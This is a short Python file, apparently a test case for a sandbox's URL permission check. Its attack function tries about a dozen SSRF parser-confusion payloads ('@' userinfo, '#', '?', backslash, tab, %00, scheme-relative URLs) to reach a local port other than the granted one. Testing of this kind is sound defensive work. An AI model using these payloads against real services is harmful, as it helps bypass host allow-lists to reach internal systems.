# A host that looks like the granted one to one reader, and is another to the next.
# after: connect
# source: SSRF
# granted: fetch
def attack(tcp, web, site, **_):
    name = site.rpartition("/")[2]
    good = f"127.0.0.1:{web}"
    bad = f"127.0.0.1:{tcp}"
    for tried in (f"http://{good}@{bad}/{name}/granted/", f"http://{bad}#@{good}/{name}/granted/", f"http://{bad}\\@{good}/{name}/granted/",
                  f"http://{good}:80@{bad}/", f"http://{bad}?@{good}/{name}/granted/", f"http://{good}%2f@{bad}/", f"http://{good}\t@{bad}/",
                  f"http://{good}%00@{bad}/", f"http:{bad}/{name}/granted/", f"http:///{bad}/", f"//{bad}/", f"http://{bad}/{name}/granted/note"):
        try:
            fetch(tried)
        except (OSError, ValueError):
            continue
